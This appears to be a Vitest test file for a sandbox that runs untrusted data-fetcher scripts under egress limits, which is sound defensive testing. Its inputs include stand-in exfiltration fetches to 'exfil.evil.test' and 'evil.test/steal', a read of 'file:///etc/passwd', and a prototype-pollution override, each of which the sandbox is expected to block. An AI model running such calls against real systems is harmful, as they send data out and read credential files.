import { stripTypeScriptTypes } from 'node:module';
import { describe, expect, it } from 'vitest';
import { BASE, expectHostStillRuns, failureOf, fakeVendor, HOST, run, TOKEN } from './fake-vendor.fixture.ts';
import type { FetchedRecord } from './result.ts';

const PAGING_FETCHER = `
async function run(input) {
  let page = 1;
  while (page !== null) {
    const res = await fetch(input.base + '/users?page=' + page, { headers: { accept: 'application/json' } });
    if (res.status !== 200) throw new Error('HTTP ' + res.status);
    const body = JSON.parse(res.body);
    for (const u of body.items) emit({ id: u.id, kind: 'human', display_name: u.name, email: u.email, status: 'active' });
    log('page ' + page + ': ' + body.items.length + ' users');
    page = body.next_page;
  }
}`;

describe('runFetcher: a well-behaved fetcher', () => {
  it('pages through the API and gets every user exactly once, streamed as emitted', async () => {
    const streamed: FetchedRecord[] = [];
    const seenWhenPage3Asked: number[] = [];
    const vendor = fakeVendor((_req, url) => {
      if (url.searchParams.get('page') === '3') seenWhenPage3Asked.push(streamed.length);
      return undefined;
    });
    const result = await run(PAGING_FETCHER, { onRecord: (r) => streamed.push(r) }, vendor);

    expect(result.ok).toBe(true);
    expect(result.records.map((r) => r.id)).toEqual(['u1', 'u2', 'u3', 'u4', 'u5']);
    expect(result.records[0]).toEqual({ id: 'u1', kind: 'human', display_name: 'ada', email: 'ada@example.test', status: 'active' });
    expect(streamed).toEqual(result.records);
    // Records reach the host while the fetcher is still running, not in one batch at the end.
    expect(seenWhenPage3Asked).toEqual([4]);
    expect(result.calls.map((c) => [c.seq, c.method, c.url, c.status, c.outcome])).toEqual([
      [1, 'GET', `${BASE}/users?page=1`, 200, 'ok'],
      [2, 'GET', `${BASE}/users?page=2`, 200, 'ok'],
      [3, 'GET', `${BASE}/users?page=3`, 200, 'ok'],
    ]);
    expect(result.logs).toEqual(['page 1: 2 users', 'page 2: 2 users', 'page 3: 1 users']);
    expect(result.violations).toEqual([]);
    expect(result.stats).toMatchObject({ requests: 3, cpuMs: expect.any(Number), heapBytes: expect.any(Number) });
  });

  it('runs a TypeScript fetcher once the caller has stripped its types', async () => {
    const ts = `
      interface Page { items: Array<{ id: string; name: string }>; next_page: number | null }
      async function run(input: { base: string }): Promise<void> {
        let page: number | null = 1;
        while (page !== null) {
          const res = await fetch(\`\${input.base}/users?page=\${page}\`);
          const body = JSON.parse(res.body) as Page;
          for (const u of body.items) emit({ id: u.id });
          page = body.next_page;
        }
      }`;
    const result = await run(stripTypeScriptTypes(ts));
    expect(result.ok).toBe(true);
    expect(result.records).toHaveLength(5);
  });

  it('injects auth at the gate: the fetcher never holds the token, and nothing it returns contains it', async () => {
    const vendor = fakeVendor();
    const result = await run(
      `async function run(input) {
        const headers = { accept: 'application/json' };
        const res = await fetch(input.base + '/users?page=1', { headers });
        emit({ my_headers: headers, response_headers: res.headers, body: res.body });
        log(JSON.stringify(res));
      }`,
      {},
      vendor,
    );
    expect(result.ok).toBe(true);
    // The API got the token from the host...
    expect(vendor.received[0]!.headers.get('authorization')).toBe(`Bearer ${TOKEN}`);
    // ...but the fetcher's own headers object is untouched, and the echo in the response is scrubbed.
    expect(result.records[0]!.my_headers).toEqual({ accept: 'application/json' });
    expect((result.records[0]!.response_headers as Record<string, string>)['x-echo-auth']).toBe('REDACTED');
    expect(JSON.stringify(result)).not.toContain(TOKEN);
  });

  it('gives each run a fresh isolate: nothing a previous fetcher left behind is visible', async () => {
    await run(`globalThis.leak = 'from run 1'; Object.prototype.polluted = true; async function run() {}`);
    const result = await run(`async function run() { emit({ leak: typeof leak, polluted: typeof ({}).polluted }); }`);
    expect(result.records).toEqual([{ leak: 'undefined', polluted: 'undefined' }]);
  });

  it('sleep(ms) waits on the host (the isolate has no timers), scaled by sleepScale', async () => {
    const source = `async function run() {
      const t0 = Date.now();
      await sleep(300);
      emit({ waited: Date.now() - t0 });
      try { await sleep(-1); } catch (e) { emit({ error: e.message }); }
    }`;
    const real = await run(source);
    expect(real.ok).toBe(true);
    expect(real.records[0]!.waited).toBeGreaterThanOrEqual(290);
    expect(real.records[1]!.error).toMatch(/sleep\(ms\): ms must be a finite number/);
    const scaled = await run(source, { sleepScale: 0 });
    expect(scaled.records[0]!.waited).toBeLessThan(100);
  });

  it('keeps log lines up to maxLogLines and streams them to onLog', async () => {
    const lines: string[] = [];
    const result = await run(`async function run() { for (let i = 0; i < 50; i++) log('line', i, { i }); console.warn('via console'); }`, {
      limits: { maxLogLines: 3 },
      onLog: (l) => lines.push(l),
    });
    expect(result.logs).toEqual(['line 0 {"i":0}', 'line 1 {"i":1}', 'line 2 {"i":2}']);
    expect(lines).toEqual(result.logs);
  });
});

describe('runFetcher: the host names what the fetcher tried', () => {
  it('fetch to another host → egress-violation; the host is never contacted, even when the fetcher catches the refusal', async () => {
    const vendor = fakeVendor();
    const result = await run(
      `async function run() {
        try { await fetch('https://exfil.evil.test/collect?d=1'); }
        catch (e) { emit({ name: e.name, code: e.code, message: e.message }); }
      }`,
      {},
      vendor,
    );
    expect(result.records).toEqual([{ name: 'FetchError', code: 'refused-host', message: expect.stringContaining('https://exfil.evil.test is not an allowed origin') }]);
    expect(failureOf(result)).toMatchObject({ kind: 'egress-violation', message: expect.stringContaining('exfil.evil.test') });
    expect(result.violations).toMatchObject([{ kind: 'refused-host', seq: 1 }]);
    expect(result.calls).toMatchObject([{ outcome: 'refused-host', status: null }]);
    expect(vendor.received).toHaveLength(0);
    await expectHostStillRuns();
  });

  it.each(['DELETE', 'POST', 'PATCH'])('%s → egress-violation (refused-method), never sent', async (method) => {
    const vendor = fakeVendor();
    const result = await run(`async function run(input) { await fetch(input.base + '/users/u1', { method: '${method}', body: '{}' }); }`, {}, vendor);
    expect(failureOf(result)).toMatchObject({ kind: 'egress-violation', message: expect.stringContaining(`${method} ${BASE}/users/u1: method not allowed`) });
    expect(result.violations).toMatchObject([{ kind: 'refused-method' }]);
    expect(vendor.received).toHaveLength(0);
  });

  it('a hard-coded Authorization header → egress-violation; the API only ever sees the injected token', async () => {
    const vendor = fakeVendor();
    const result = await run(`async function run(input) { await fetch(input.base + '/users', { headers: { Authorization: 'Bearer ghp_hardcoded' } }); }`, {}, vendor);
    expect(failureOf(result)).toMatchObject({ kind: 'egress-violation' });
    expect(result.violations).toMatchObject([{ kind: 'credential-header', message: expect.stringContaining('authorization') }]);
    expect(vendor.received.map((r) => r.headers.get('authorization'))).toEqual([`Bearer ${TOKEN}`]);
    expect(JSON.stringify(result)).not.toContain('ghp_hardcoded');
  });

  it('a redirect to another host → egress-violation, not followed', async () => {
    const vendor = fakeVendor((_req, url) =>
      url.host === HOST ? new Response(null, { status: 302, headers: { location: 'https://evil.test/steal' } }) : new Response('should never be reached'),
    );
    const result = await run(`async function run(input) { await fetch(input.base + '/users'); }`, {}, vendor);
    expect(failureOf(result)).toMatchObject({ kind: 'egress-violation', message: expect.stringContaining('evil.test') });
    expect(result.violations).toMatchObject([{ kind: 'redirect-off-host' }]);
    expect(vendor.received.map((r) => new URL(r.url).host)).toEqual([HOST]);
  });

  it('a huge response → egress-violation (response-too-large), cut off at the cap', async () => {
    let chunksServed = 0;
    const vendor = fakeVendor(() => {
      const chunk = new Uint8Array(64 * 1024).fill(120);
      return new Response(new ReadableStream({ pull: (c) => (++chunksServed > 48 ? c.close() : c.enqueue(chunk)) }));
    });
    const result = await run(`async function run(input) { const r = await fetch(input.base + '/users'); emit({ n: r.body.length }); }`, { egress: { maxResponseBytes: 1024 * 1024 } }, vendor);
    expect(failureOf(result)).toMatchObject({ kind: 'egress-violation' });
    expect(result.violations).toMatchObject([{ kind: 'response-too-large' }]);
    expect(result.calls[0]!.bytes).toBeLessThanOrEqual(1024 * 1024 + 64 * 1024);
    expect(chunksServed).toBeLessThan(48);
    expect(result.records).toEqual([]);
  });

  it('too many requests → egress-violation at the cap, and nothing past it is sent', async () => {
    const vendor = fakeVendor();
    const result = await run(`async function run(input) { for (;;) { try { await fetch(input.base + '/users?page=1'); } catch (e) {} } }`, { egress: { maxRequests: 5 } }, vendor);
    expect(failureOf(result)).toMatchObject({ kind: 'egress-violation', message: expect.stringContaining('more than 5 requests') });
    expect(vendor.received).toHaveLength(5);
    expect(result.calls.map((c) => c.outcome)).toEqual(['ok', 'ok', 'ok', 'ok', 'ok', 'request-cap']);
    await expectHostStillRuns();
  });

  it('a file: URL → egress-violation (refused-scheme)', async () => {
    const result = await run(`async function run() { await fetch('file:///etc/passwd'); }`);
    expect(result.violations).toMatchObject([{ kind: 'refused-scheme' }]);
    expect(failureOf(result)?.kind).toBe('egress-violation');
  });

  it('a fetcher that throws → fetcher-error with its message and where it threw', async () => {
    const result = await run(`async function run() {\n  emit({ id: 'u1' });\n  throw new Error('pagination broke');\n}`);
    expect(failureOf(result)).toMatchObject({ kind: 'fetcher-error', message: expect.stringMatching(/pagination broke \(at run \(fetcher\.js:3:\d+\)\)/) });
    expect(result.records).toEqual([{ id: 'u1' }]);
  });

  it.each([
    ['a function', `{ id: 'u1', f() {} }`, 'record.f is a function'],
    ['a Date', `{ id: 'u1', created_at: new Date(0) }`, 'record.created_at is a Date; emit an ISO string'],
    ['a BigInt', `{ id: 10n }`, 'record.id is a BigInt'],
    ['undefined', `{ id: 'u1', email: undefined }`, 'record.email is undefined; use null'],
    ['NaN', `{ id: 'u1', n: NaN }`, 'record.n is NaN'],
    ['a cycle', `(() => { const r = { id: 'u1', groups: [] }; r.groups.push(r); return r; })()`, 'record.groups[0] refers back to itself'],
    ['a class instance', `new (class User { constructor() { this.id = 'u1'; } })()`, 'record is a User'],
    ['a Map', `{ id: 'u1', attrs: new Map([['a', 1]]) }`, 'record.attrs is a Map'],
    ['deep nesting', `(() => { let r = { id: 'u1' }; for (let i = 0; i < 100000; i++) r = { r }; return r; })()`, 'nested more than 32 levels'],
    ['an array', `['u1']`, 'emit(record) takes a plain object, got an array'],
  ])('emitting %s → invalid-record, even if the fetcher catches the error', async (_, record, message) => {
    const result = await run(`async function run() { emit({ id: 'ok' }); try { emit(${record}); } catch (e) {} emit({ id: 'after' }); }`);
    expect(failureOf(result)).toMatchObject({ kind: 'invalid-record', message: expect.stringContaining(message) });
    expect(result.records).toEqual([{ id: 'ok' }]);
  });

  it('a toJSON the fetcher gives Object.prototype does not reach the copy a record is written from', async () => {
    const result = await run(`async function run() { Object.prototype.toJSON = function () { return 'replaced'; }; emit({ id: 'u1', source: { stream: 'users' } }); }`);
    expect(result.ok).toBe(true);
    expect(result.records).toEqual([{ id: 'u1', source: { stream: 'users' } }]);
  });

  it('more records than maxRecords → record-flood, keeping the first maxRecords', async () => {
    const result = await run(`async function run() { for (let i = 0; i < 100; i++) emit({ i }); }`, { limits: { maxRecords: 10 } });
    expect(failureOf(result)).toMatchObject({ kind: 'record-flood', message: expect.stringContaining('more than 10 records') });
    expect(result.records).toHaveLength(10);
  });

  it.each([
    // ASCII: the prelude's count (characters) sees the budget pass; 'é' is one character but two bytes, so only the host's count (bytes) does.
    ['ASCII records (refused in the isolate)', 'x'],
    ['two-byte characters (refused by the host)', 'é'],
  ])('more bytes of records than maxTotalRecordBytes → record-flood, keeping the records within it: %s', async (_, char) => {
    const result = await run(`async function run() { for (let i = 0; i < 5; i++) emit({ blob: '${char}'.repeat(600) }); emit({ after: true }); }`, { limits: { maxTotalRecordBytes: 2_000 } });
    expect(failureOf(result)).toMatchObject({ kind: 'record-flood', message: expect.stringContaining('more than 2000 bytes of records') });
    expect(result.records).toHaveLength(char === 'x' ? 3 : 1);
    expect(result.stats.recordBytes).toBeLessThanOrEqual(2_000);
  });

  it('a record larger than maxRecordBytes → invalid-record', async () => {
    const result = await run(`async function run() { emit({ blob: 'é'.repeat(600) }); }`, { limits: { maxRecordBytes: 1_000 } });
    expect(failureOf(result)).toMatchObject({ kind: 'invalid-record', message: expect.stringContaining('maxRecordBytes (1000)') });
  });

  it.each([
    ['a syntax error', `async function run( {`, 'Unexpected'],
    ['no run function', `const helper = 1;`, 'must define a global function run(input)'],
    ['run that is not a function', `var run = 42;`, 'must define a global function run(input)'],
  ])('%s → bad-source', async (_, source, message) => {
    const result = await run(source);
    expect(failureOf(result)).toMatchObject({ kind: 'bad-source', message: expect.stringContaining(message) });
  });

  it('an onRecord callback that throws is the caller’s error: runFetcher rejects with it, and no process is left behind', async () => {
    await expect(
      run(`async function run() { for (;;) emit({ id: 'x' }); }`, {
        onRecord: () => {
          throw new Error('consumer broke');
        },
      }),
    ).rejects.toThrow('consumer broke');
    await expectHostStillRuns();
  });
});
